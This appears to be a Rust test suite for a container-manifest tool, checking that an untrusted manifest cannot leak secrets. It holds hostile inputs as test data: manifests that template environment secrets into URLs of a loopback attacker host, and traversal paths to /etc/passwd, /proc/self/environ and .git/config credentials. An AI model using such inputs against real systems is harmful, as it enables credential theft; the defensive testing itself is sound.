//! A malicious manifests.toml: what `--untrusted` prevents, and what `--root` prevents for all authors.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::sync::{Arc, Mutex, PoisonError};

use crate::support::any_registry::AnyRegistry;
use crate::support::context::{Context, Output};
use crate::support::images::{Dialect, Image, write_layout};
use crate::support::registry::{Account, Auth, Authorization, Knobs, Registry};

use trap::Trap;

mod trap;

/// A part of every text that must not leak.
const SECRET: &str = "s3cr3t";

/// A host of the attacker. It records every byte that it receives, and responds with 404.
struct Evil {
    address: SocketAddr,
    heard: Arc<Mutex<Vec<u8>>>,
}

impl Evil {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port on loopback");
        let address = listener.local_addr().expect("a bound socket has an address");
        let heard: Arc<Mutex<Vec<u8>>> = Arc::default();
        let log = Arc::clone(&heard);
        // The thread ends with the process and is never joined.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut request = Vec::new();
                let mut bytes = [0; 4096];
                while !request.ends_with(b"\r\n\r\n") {
                    match stream.read(&mut bytes) {
                        Ok(count @ 1..) => request.extend(&bytes[..count]),
                        _ => break,
                    }
                }
                log.lock().unwrap_or_else(PoisonError::into_inner).extend(request);
                // The client may have disconnected already.
                let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
            }
        });
        Self { address, heard }
    }

    /// The address of the host: `127.0.0.1:PORT`.
    fn host(&self) -> String {
        self.address.to_string()
    }

    /// Everything that it received.
    fn heard(&self) -> String {
        String::from_utf8_lossy(&self.heard.lock().unwrap_or_else(PoisonError::into_inner)).into_owned()
    }
}

/// Creates a project with secrets around it, and a host of the attacker that its file may name as `EVIL`.
fn project(manifest: &str) -> (Context, Evil) {
    let evil = Evil::start();
    let mut context = Context::with(&manifest.replace("EVIL", &evil.host()));
    context.set("SECRET", "s3cr3t-of-the-environment");
    context.set("ALLOWED", "v1.2.3");
    fs::write(context.path("../secret"), "s3cr3t-of-a-file\n").expect("a file");
    (context, evil)
}

/// Returns a list that uses `{v}`, which is defined by `from`, in each place that others can see.
fn list(from: &str) -> String {
    format!(
        r#"
[vars]
v = {from}

[list.app]
platforms = ["linux/amd64"]
source = "EVIL/{{v}}/app:{{v}}"
target = "EVIL/app"
tags = ["{{v}}"]
"#
    )
}

/// Returns a list that includes other files.
fn including(globs: &[&str]) -> String {
    format!("include = {globs:?}\n{}", list(r#""v1""#))
}

/// Checks that no secret is in the output, in the JSON or in a request.
#[track_caller]
fn assert_kept(output: &Output, context: &Context, evil: &Evil) {
    let written = fs::read_to_string(context.path("plan.json")).unwrap_or_default();
    for (text, of) in
        [(&output.stdout, "stdout"), (&output.stderr, "stderr"), (&written, "JSON"), (&evil.heard(), "a request")]
    {
        assert!(!text.contains(SECRET), "{of} has it: {text}\n{output}");
        assert!(!text.contains("root:x:"), "{of} has /etc/passwd: {text}\n{output}");
    }
}

const PLAN: &str = "plan --untrusted -vv --format human --format json=plan.json";

#[test]
fn a_variable_of_the_environment_reaches_no_host_and_no_log() {
    for (source, tag) in [
        ("EVIL/x:{v}", "1"),
        ("EVIL/{v}/x:1", "1"),
        ("{v}.example.invalid/x:1", "1"),
        ("EVIL/x:1", "{v}"),
        ("EVIL/x:1", "{v|lower} "),
        ("oci:{v}:1", "1"),
    ] {
        let manifest = format!(
            r#"
                [vars]
                v = {{ env = "SECRET" }}
                [list.app]
                platforms = ["linux/amd64"]
                source = "{source}"
                target = "EVIL/app"
                tags = ["{tag}"]
            "#
        );
        let (context, evil) = project(&manifest);
        let output = context.mlist(PLAN).exits(2);
        assert!(output.stderr.contains("mlist::config::no_value"), "{output}");
        assert!(output.stderr.contains("--allow-env SECRET"), "{output}");
        assert_eq!(evil.heard(), "", "nobody was asked: {source} {tag}");
        assert_kept(&output, &context, &evil);
        context.mlist("check --untrusted").exits(2);
    }
}

#[test]
fn the_same_file_gets_its_secret_out_where_its_author_is_trusted() {
    // This checks that the tests above can detect a leak.
    let (context, evil) = project(&list(r#"{ env = "SECRET" }"#));
    context.mlist("plan");
    assert!(evil.heard().contains("s3cr3t-of-the-environment"), "{}", evil.heard());
}

#[test]
fn a_default_takes_the_place_of_what_is_not_read() {
    let (context, evil) = project(&list(r#"{ env = "SECRET", default = "dev" }"#));
    let output = context.mlist(PLAN).exits(4);
    assert!(evil.heard().contains("/v2/dev/app/manifests/dev"), "{}", evil.heard());
    assert_kept(&output, &context, &evil);
}

#[test]
fn allow_env_lets_exactly_that_variable_through() {
    let (context, evil) = project(&list(r#"{ env = "ALLOWED" }"#));
    let output = context.mlist(PLAN).exits(2);
    assert!(output.stderr.contains("--allow-env ALLOWED"), "{output}");
    let allowed = format!("{PLAN} --allow-env ALLOWED");
    let output = context.mlist(&allowed).exits(4);
    assert!(evil.heard().contains("/manifests/v1.2.3"), "{output}");
    for near in ["ALLOWED2", "ALLOW", "allowed", "SECRET"] {
        context.mlist(&format!("check --untrusted --allow-env {near}")).exits(2);
    }
    let both = list(r#"{ env = "ALLOWED" }"#)
        .replace("app:{v}", "app:{w}")
        .replace("[vars]\n", "[vars]\nw = { env = 'SECRET' }\n");
    context.manifest(&both.replace("EVIL", &evil.host()));
    let output = context.mlist(&allowed).exits(2);
    assert!(output.stderr.contains("`w` has no value"), "{output}");
    assert_kept(&output, &context, &evil);
}

#[test]
fn an_allowed_value_is_not_quoted_in_a_problem() {
    let (context, evil) = project(&list(r#"{ env = "SECRET" }"#).replace(r#"tags = ["{v}"]"#, r#"tags = ["{v} {v}"]"#));
    let output = context.mlist(&format!("{PLAN} --allow-env SECRET")).exits(2);
    assert!(output.stderr.contains("in tag `{v} {v}`: tags allow"), "{output}");
    assert_kept(&output, &context, &evil);
}

#[test]
fn files_outside_of_the_folder_are_not_read_by_whatever_path() {
    for path in [
        "/etc/passwd",
        "../secret",
        "../nothing-there",
        "sub/../../secret",
        "link",
        "folder/secret",
        "chain",
        "circle",
        "{name}/../../secret",
        "/proc/self/environ",
    ] {
        let (context, evil) = project(&list(&format!(r#"{{ file = "{path}", default = "dev" }}"#)));
        fs::create_dir(context.path("sub")).expect("a folder");
        for (target, name) in [
            ("../secret", "link"),
            ("..", "folder"),
            ("folder/secret", "chain"),
            ("round", "circle"),
            ("circle", "round"),
        ] {
            symlink(target, context.path(name)).expect("a link");
        }
        for command in [PLAN, "check --untrusted", "check --root .", "plan --root sub/..", "sync --root ."] {
            let output = context.mlist(command).exits(2);
            assert!(output.stderr.contains("mlist::config::outside_root"), "{path}: {output}");
            assert_kept(&output, &context, &evil);
        }
        assert_eq!(evil.heard(), "", "{path}");
    }
}

#[test]
fn a_value_of_several_lines_is_refused_and_not_shown_to_anybody() {
    let (context, evil) = project(&list(r#"{ file = "secrets" }"#));
    for content in ["s3cr3t-1\ns3cr3t-2\n".to_owned(), SECRET.repeat(50), "s3cr3t with blanks".to_owned()] {
        fs::write(context.path("secrets"), content).expect("a file");
        for command in ["plan", PLAN, "check"] {
            let output = context.mlist(command).exits(2);
            assert_kept(&output, &context, &evil);
        }
    }
    assert_eq!(evil.heard(), "");
}

#[test]
fn a_manifest_that_is_a_link_out_of_its_folder_is_not_read() {
    let (context, evil) = project("");
    fs::remove_file(context.path("manifests.toml")).expect("it was there");
    symlink("../secret", context.path("manifests.toml")).expect("a link");
    for command in [PLAN, "check --untrusted -f manifests.toml", "check --root .", "sync --root ."] {
        let output = context.mlist(command).exits(2);
        assert!(output.stderr.contains("mlist::config::outside_root"), "{output}");
        assert_kept(&output, &context, &evil);
    }
    // Without these flags, the excerpt of the invalid TOML shows a line of the linked file.
    assert!(context.mlist("check").exits(2).stderr.contains(SECRET));
}

#[test]
fn layouts_outside_of_the_folder_are_not_opened() {
    let member = |source: &str, target: &str| {
        format!(
            r#"
                [list.app]
                platforms = ["linux/amd64"]
                source = "{source}"
                target = "{target}"
                tags = ["1"]
            "#
        )
    };
    for (source, target) in [
        ("oci:../outside:1", "EVIL/app"),
        ("oci:link:1", "EVIL/app"),
        ("oci:sub/../../outside:1", "EVIL/app"),
        ("EVIL/x:1", "oci:../outside"),
        ("EVIL/x:1", "oci:link"),
        ("EVIL/x:1", "oci:folder/outside/new"),
    ] {
        let (context, evil) = project(&member(source, target));
        fs::create_dir(context.path("../outside")).expect("a folder");
        symlink("../outside", context.path("link")).expect("a link");
        symlink("..", context.path("folder")).expect("a link");
        let traps = ["oci-layout", "index.json"].map(|name| Trap::set(context.path("../outside").join(name)));
        for command in [PLAN, "check --untrusted", "sync --root ."] {
            let output = context.mlist(command).exits(2);
            assert!(output.stderr.contains("mlist::config::outside_root"), "{source} {target}: {output}");
            assert_kept(&output, &context, &evil);
        }
        for trap in traps {
            trap.was_not_opened();
        }
        assert_eq!(evil.heard(), "");
        let names: Vec<_> = fs::read_dir(context.path("../outside")).expect("a folder").collect();
        assert_eq!(names.len(), 2, "nothing was written there");
    }
}

#[test]
fn git_is_not_run_for_a_stranger() {
    for word in ["describe", "tag", "commit", "branch"] {
        let (context, evil) = project(&list(&format!(r#"{{ git = "{word}" }}"#)));
        let git = context.path("../bin/git");
        fs::write(&git, format!("#!/bin/sh\ntouch '{}'\necho s3cr3t\n", context.path("git-was-run").display()))
            .expect("a program");
        fs::set_permissions(&git, fs::Permissions::from_mode(0o755)).expect("a program that can be run");
        let output = context.mlist(PLAN).exits(2);
        assert!(output.stderr.contains("git is not used with --untrusted"), "{output}");
        assert!(!context.path("git-was-run").exists());
        assert_kept(&output, &context, &evil);
        context.mlist("check");
        assert!(context.path("git-was-run").exists(), "that this test would see it");
    }
}

#[test]
fn what_a_stranger_says_of_a_registry_opens_no_file_and_sends_no_secret() {
    let manifest = format!(
        r#"
            [registry."EVIL"]
            ca = "../outside/ca"
            client-cert = "../outside/cert"
            client-key = "../outside/key"
            username-env = "SECRET"
            password-env = "PASSWORD"
            concurrency = 1
            {}"#,
        list(r#""dev""#)
    );
    let (mut context, evil) = project(&manifest);
    context.set("PASSWORD", "s3cr3t-password");
    fs::create_dir(context.path("../outside")).expect("a folder");
    let traps = ["ca", "cert", "key"].map(|name| Trap::set(context.path("../outside").join(name)));
    let output = context.mlist(PLAN).exits(4);
    assert!(output.stderr.contains("mlist::config::left_out"), "{output}");
    let keys = "`ca`, `client-cert`, `client-key`, `username-env`, `password-env` of registry";
    assert!(output.stderr.contains(keys), "{output}");
    assert!(evil.heard().contains("HEAD /v2/dev/app/manifests/dev"), "plain HTTP, as on this machine without `ca`");
    assert!(!evil.heard().to_lowercase().contains("authorization"), "{}", evil.heard());
    assert_kept(&output, &context, &evil);
    let output = context.mlist("check --root .").exits(2);
    assert_eq!(output.stderr.matches("mlist::config::outside_root").count(), 3, "{output}");
    for trap in traps {
        trap.was_not_opened();
    }
}

#[test]
fn a_stranger_gets_nobodys_credentials() {
    let account = Account::new("ci-bot", "s3cr3t-of-the-bot");
    let registry = Registry::start(Knobs { auth: Auth::Basic(account.clone()), ..Knobs::default() });
    let registry = AnyRegistry::InProcess(registry);
    registry.push("acme/app", "dev", &Image::new(Dialect::Oci, "linux/amd64", "app"));
    let manifest = list(r#""dev""#).replace("EVIL/{v}/app", "EVIL/acme/app").replace("EVIL", &registry.host());
    let (mut context, evil) = project(&manifest);
    context.set(
        "DOCKER_AUTH_CONFIG",
        format!(r#"{{"auths":{{"{}":{{"auth":"{}"}}}}}}"#, registry.host(), account.encoded()),
    );
    let helper = |context: &Context| context.log_in_by_helper(&registry.host(), &account);
    let file = |context: &Context| context.log_in(&registry.host(), &account);
    for log_in in [&file as &dyn Fn(&Context), &helper] {
        log_in(&context);
        let (output, log) = registry.watch(|| context.mlist(PLAN));
        let output = output.exits(1);
        assert!(log.iter().all(|exchange| exchange.authorization == Authorization::None), "{log}");
        assert!(output.stderr.contains("unauthorized"), "{output}");
        assert!(!context.path("helper-asked").exists(), "no helper is run");
        assert_kept(&output, &context, &evil);
        context.mlist("plan").exits(0);
    }
}

#[test]
fn what_is_a_strangers_own_works() {
    let registry = AnyRegistry::InProcess(Registry::start(Knobs::default()));
    let image = Image::new(Dialect::Oci, "linux/amd64", "app");
    registry.push("acme/app-amd64", "v1.2.3", &image);
    let manifest = format!(
        r#"
            [vars]
            version = {{ file = "link" }}
            [defaults]
            platforms = ["linux/amd64"]
            tags = ["{{version}}"]
            [list.app]
            source = "{host}/acme/{{name}}-{{arch}}:{{version}}"
            target = "{host}/acme/{{name}}"
            [list.layout]
            source = "oci:in:{{version}}"
            target = "oci:out/new/{{name}}"
        "#,
        host = registry.host()
    );
    let (context, evil) = project(&manifest);
    fs::create_dir(context.path("images")).expect("a folder");
    fs::write(context.path("images/VERSION"), "v1.2.3\n").expect("a file");
    symlink("images/VERSION", context.path("link")).expect("a link");
    write_layout(&context.path("in"), &[("v1.2.3", &image)]);
    context.mlist("check --untrusted").exits(0);
    let output = context.mlist(PLAN).exits(0);
    assert!(output.stdout.contains("Plan: 2 to create"), "{output}");
    assert_kept(&output, &context, &evil);
    context.mlist("sync --root .").exits(0);
    let output = context.mlist("plan --untrusted -f ../project/manifests.toml --root ..").exits(0);
    assert!(output.stdout.contains("Plan: 2 unchanged"), "{output}");
}

#[test]
fn only_check_and_plan_read_a_strangers_file() {
    let (context, evil) = project(&list(r#""dev""#));
    for command in ["sync --untrusted", "sync -n --untrusted", "schema --untrusted", "check --allow-env ALLOWED"] {
        context.mlist(command).exits(2);
    }
    assert_eq!(evil.heard(), "");
}

#[test]
fn a_root_that_is_none_is_told() {
    let (context, _evil) = project(&list(r#""dev""#));
    for root in ["nowhere", "manifests.toml"] {
        let output = context.mlist(&format!("plan --root {root}")).exits(2);
        assert!(output.stderr.contains(&format!("`{root}`")) && output.stderr.contains("--root DIR"), "{output}");
    }
}

#[test]
fn files_outside_of_the_folder_are_not_included_by_whatever_path() {
    for glob in [
        "../secret",
        "../*.toml",
        "/etc/passwd",
        "link",
        "folder/*",
        "folder/secret",
        "sub/../../secret",
        "*nk",
        ".git/config",
    ] {
        let (context, evil) = project(&including(&[glob]));
        fs::write(context.path("../secret.toml"), "[list.s3cr3t]\n").expect("a file");
        for folder in ["sub", ".git"] {
            fs::create_dir(context.path(folder)).expect("a folder");
        }
        fs::write(context.path(".git/config"), "[http]\nextraheader = s3cr3t\n").expect("a file");
        for (target, name) in [("../secret", "link"), ("..", "folder")] {
            symlink(target, context.path(name)).expect("a link");
        }
        for command in [PLAN, "check --untrusted", "check --root .", "sync --root ."] {
            let output = context.mlist(command).exits(2);
            assert!(output.stderr.contains("mlist::config::outside_root"), "{glob}: {output}");
            assert_kept(&output, &context, &evil);
        }
        assert_eq!(evil.heard(), "", "{glob}");
    }
    // A wildcard finds nothing outside the folder, and does not look there.
    let (context, evil) = project(&including(&["*/secret"]));
    symlink("..", context.path("folder")).expect("a link");
    let output = context.mlist(PLAN).exits(2);
    assert!(output.stderr.contains("mlist::config::include_empty"), "{output}");
    assert_kept(&output, &context, &evil);
    // This checks that the tests above can detect a leak.
    assert!(context.mlist("check").exits(2).stderr.contains(SECRET));
}

#[test]
fn a_pipe_outside_of_the_folder_is_not_opened_to_include_it() {
    let (context, _evil) = project(r#"include = ["../*pipe", "pipe"]"#);
    let trap = Trap::set(context.path("../pipe"));
    symlink("../pipe", context.path("pipe")).expect("a link");
    for command in [PLAN, "check --root ."] {
        context.mlist(command).exits(2);
    }
    trap.was_not_opened();
}

#[test]
fn lines_of_files_that_are_not_theirs_reach_no_host_and_no_log() {
    for path in ["/etc/passwd", "../secret", "link", "folder/secret", ".git/config", "module/.git/config", "gits"] {
        let manifest = list(r#""v1""#) + &format!(r#"matrix.line = {{ lines = "{path}" }}"#);
        let manifest = manifest.replace("EVIL/{v}/app:{v}", "EVIL/app:{line|tag}");
        let (context, evil) = project(&manifest);
        for folder in [".git", "module/.git"] {
            fs::create_dir_all(context.path(folder)).expect("a folder");
            let config = context.path(&format!("{folder}/config"));
            fs::write(config, "[http]\n\textraheader = AUTHORIZATION: basic s3cr3t\n").expect("a file");
        }
        for (target, name) in [("../secret", "link"), ("..", "folder"), (".git/config", "gits")] {
            symlink(target, context.path(name)).expect("a link");
        }
        for command in [PLAN, "check --untrusted", "plan --root ."] {
            let output = context.mlist(command).exits(2);
            assert!(output.stderr.contains("mlist::config::outside_root"), "{path}: {output}");
            assert_kept(&output, &context, &evil);
        }
        assert_eq!(evil.heard(), "", "{path}");
    }
}

#[test]
fn tags_are_listed_without_anybodys_credentials() {
    let account = Account::new("ci-bot", "s3cr3t-password");
    let registry = Registry::start(Knobs { auth: Auth::Basic(account.clone()), ..Knobs::default() });
    let manifest = list(r#""v1""#) + &format!(r#"matrix.tag-of = {{ tags-of = "{}/private/app" }}"#, registry.host());
    let (context, evil) = project(&manifest);
    context.log_in(&registry.host(), &account);
    let output = context.mlist(PLAN).exits(1);
    assert!(output.stderr.contains("mlist::registry::unauthorized"), "{output}");
    assert!(registry.log().iter().all(|exchange| exchange.authorization == Authorization::None), "{}", registry.log());
    assert_kept(&output, &context, &evil);
}
